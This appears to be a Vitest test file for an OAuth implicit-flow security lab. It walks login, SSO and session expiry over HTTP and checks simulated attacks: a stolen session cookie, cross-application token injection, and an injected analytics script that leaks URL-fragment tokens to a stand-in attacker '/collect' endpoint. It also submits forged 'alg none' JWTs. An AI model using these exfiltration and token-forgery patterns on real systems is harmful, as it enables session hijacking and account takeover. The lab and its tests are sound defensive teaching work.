import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Browser } from '../support/http.js';
import { InspectorClient, seedSteps, seenOrder, type InspectorState } from '../support/inspector.js';
import { formToken } from '../support/hosted-form.js';
import { startTestLoginscope, type TestLoginscope } from '../support/loginscope.js';

const IDLE = 600;

interface WorkflowInfo {
  id: string;
  authorize: { url: string; clientId: string; redirectUri: string };
}

describe('implicit-session, walked over real HTTP with a cookie jar', () => {
  let app: TestLoginscope;
  let inspector: InspectorClient;
  const browser = new Browser();

  beforeAll(async () => {
    app = await startTestLoginscope({ workflow: 'implicit-session', ttl: { sessionIdleSeconds: IDLE, sessionAbsoluteSeconds: 8 * 3600, accessTokenSeconds: 300, refreshTokenMinutes: 60, ssoSessionSeconds: 3600 } });
    inspector = new InspectorClient(app);
  });
  afterAll(() => app.stop());

  /** What the SPA does at start-up: learn the authorize URL, ask /api/me. */
  async function startUp(origin: string): Promise<WorkflowInfo> {
    expect((await browser.fetch(`${origin}/`)).status).toBe(200);
    const info = (await browser.fetch(`${origin}/api/workflow`)).json<WorkflowInfo>();
    expect(info.id).toBe('implicit-session');
    expect((await browser.fetch(`${origin}/api/me`)).status).toBe(404);
    return info;
  }

  function authorizeUrl(info: WorkflowInfo, state: string): string {
    const url = new URL(info.authorize.url);
    url.search = new URLSearchParams({ client_id: info.authorize.clientId, redirect_uri: info.authorize.redirectUri, response_type: 'token', state, nonce: randomUUID() }).toString();
    return url.toString();
  }

  /** What the SPA does on the redirect URI page: the fragment stays in the browser; the JWT goes to the start-session API. */
  async function land(location: string, state: string): Promise<void> {
    const url = new URL(location);
    const fragment = new URLSearchParams(url.hash.slice(1));
    expect(fragment.get('state')).toBe(state);
    const token = fragment.get('access_token')!;
    expect(token.split('.')).toHaveLength(3);
    url.hash = '';
    const page = await browser.fetch(url.toString());
    expect(page.status).toBe(200);
    const started = await browser.fetch(`${url.origin}/api/session`, { json: { token } });
    expect(started.status).toBe(200);
    expect(started.setCookies.some((c) => /_session=.*HttpOnly/i.test(c))).toBe(true);
  }

  it('walks every step of the seed, in order', async () => {
    // 1–8: start-up, then the identity server's own login page; the password never touches the store.
    const storeInfo = await startUp(app.urls.store);
    const state1 = randomUUID();
    const form = await browser.fetch(authorizeUrl(storeInfo, state1));
    expect(form.status).toBe(200);
    const posted = await browser.fetch(`${new URL(storeInfo.authorize.url).origin}/oauth2/authorize`, {
      form: {
        csrfToken: formToken(form),
        loginId: 'demo@example.com',
        password: 'demo-password',
        rememberDevice: 'true',
        client_id: storeInfo.authorize.clientId,
        redirect_uri: storeInfo.authorize.redirectUri,
        response_type: 'token',
        state: state1,
      },
    });
    expect(posted.status).toBe(302);
    expect(posted.location).toMatch(/^http:\/\/store\.localhost:\d+\/oauth-redirect#access_token=/);
    expect(posted.setCookies.some((c) => /^fusionauth\.sso=.*HttpOnly/i.test(c))).toBe(true);

    // 9–16: redirect URI, start-session API, cart.
    await land(posted.location!, state1);
    expect((await browser.fetch(`${app.urls.store}/api/cart`)).status).toBe(200);

    // 17–28: the session expires; no refresh token here, so 401, then straight back through SSO with no form.
    await inspector.advance(IDLE + 1);
    expect((await browser.fetch(`${app.urls.store}/api/cart`)).status).toBe(401);
    const state2 = randomUUID();
    const sso = await browser.fetch(authorizeUrl(storeInfo, state2));
    expect(sso.status).toBe(302);
    await land(sso.location!, state2);
    expect((await browser.fetch(`${app.urls.store}/api/cart`)).status).toBe(200);

    // 29–42: the forum gets SSO through the identity server's cookie.
    const forumInfo = await startUp(app.urls.forum);
    const state3 = randomUUID();
    const forumSso = await browser.fetch(authorizeUrl(forumInfo, state3));
    expect(forumSso.status).toBe(302);
    expect(forumSso.location).toMatch(/^http:\/\/forum\.localhost:\d+\/oauth-redirect#access_token=/);
    await land(forumSso.location!, state3);
    expect((await browser.fetch(`${app.urls.forum}/api/posts`)).status).toBe(200);

    // 43–45: the stolen session cookie.
    const stolen = await inspector.attack('stolen-session-cookie');
    expect(stolen.json<{ succeeded: boolean }>().succeeded).toBe(true);

    const state = await inspector.state<InspectorState>();
    const { order, unseen } = seenOrder(state);
    expect(unseen).toEqual([]);
    expect(order).toEqual(seedSteps(state).map((s) => s.n));
    expect(seedSteps(state)).toHaveLength(45);
    expect(state.cookies.login?.find((c) => c.name === 'fusionauth.sso')).toMatchObject({ httpOnly: true, hostOnly: true });
    expect(state.idp.refreshTokens).toEqual([]);
  });

  it('blocks a forum token at the store by aud, unless the check is switched off', async () => {
    const blocked = (await inspector.attack('token-injection')).json<{ succeeded: boolean; outcome: string }>();
    expect(blocked.succeeded).toBe(false);
    expect(blocked.outcome).toMatch(/another application/);
    expect((await inspector.switches({ audienceCheck: false })).status).toBe(200);
    const injected = (await inspector.attack('token-injection')).json<{ succeeded: boolean }>();
    expect(injected.succeeded).toBe(true);
    await inspector.switches({ audienceCheck: true });
  });

  it('arms the injected script, which then leaks the fragment to the attacker', async () => {
    const armed = await inspector.attack('fragment-theft');
    expect(armed.status).toBe(200);
    expect(armed.json<{ succeeded: boolean; status: number }>()).toMatchObject({ succeeded: false, status: 202 });
    const page = await browser.fetch(`${app.urls.store}/oauth-redirect`);
    expect(page.text).toContain('<script src="/vendor/analytics.js"></script>');
    expect(page.headers['content-security-policy']).toContain(`img-src 'self' data: ${app.urls.attacker}`);
    const script = await browser.fetch(`${app.urls.store}/vendor/analytics.js`);
    expect(script.text).toContain(`${app.urls.attacker}/collect`);
    // What the script's beacon delivers when a real browser runs it (the Chromium test runs it for real).
    const token = (await inspector.state<{ sessions: { forum: Array<{ jwt?: string; status: string }> } }>()).sessions.forum.find((s) => s.status === 'active')!.jwt!;
    const storeToken = await mintStoreToken();
    await browser.fetch(`${app.urls.attacker}/collect?from=${encodeURIComponent(app.urls.store)}&fragment=${encodeURIComponent(`access_token=${storeToken}&state=x`)}`);
    expect(token).not.toBe(storeToken);
    const stolen = (await inspector.attack('fragment-theft')).json<{ succeeded: boolean; outcome: string }>();
    expect(stolen).toMatchObject({ succeeded: true, outcome: expect.stringMatching(/stolen JWT.*cart/) });
  });

  /** A fresh store token through SSO, as the victim's browser would receive it. */
  async function mintStoreToken(): Promise<string> {
    const info = (await browser.fetch(`${app.urls.store}/api/workflow`)).json<WorkflowInfo>();
    const res = await browser.fetch(authorizeUrl(info, 's'));
    return new URLSearchParams(new URL(res.location!).hash.slice(1)).get('access_token')!;
  }

  it('refuses bad input to the start-session API with a clear 4xx and no session', async () => {
    const fresh = new Browser();
    const url = `${app.urls.store}/api/session`;
    const cases: Array<[string, Parameters<Browser['fetch']>[1], number]> = [
      ['no body', { method: 'POST' }, 400],
      ['garbage', { body: 'garbage', headers: { 'content-type': 'application/json' } }, 400],
      ['not a JWT', { json: { token: 'abc' } }, 400],
      ['alg none', { json: { token: `${b64({ alg: 'none', typ: 'JWT' })}.${b64({ sub: 'x', email: 'demo@example.com', aud: 'x', exp: 9e9 })}.` } }, 401],
      ['wrong signature', { json: { token: `${b64({ alg: 'RS256', kid: 'nope' })}.${b64({ sub: 'x' })}.${'a'.repeat(43)}` } }, 401],
    ];
    for (const [name, init, status] of cases) {
      const res = await fresh.fetch(url, init);
      expect(res.status, name).toBe(status);
      expect(res.json<{ error: { message: string } }>().error.message.length, name).toBeGreaterThan(5);
      expect(res.setCookies.filter((c) => c.startsWith('store_session=')), name).toEqual([]);
    }
    const info = (await browser.fetch(`${app.urls.store}/api/workflow`)).json<WorkflowInfo>();
    const res = await browser.fetch(authorizeUrl(info, 's'));
    const expiring = new URLSearchParams(new URL(res.location!).hash.slice(1)).get('access_token')!;
    await inspector.advance(3600);
    const expired = await fresh.fetch(url, { json: { token: expiring } });
    expect(expired.status).toBe(401);
    expect(expired.json<{ error: { code: string } }>().error.code).toBe('invalid_token_expired');
  });
});

function b64(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}
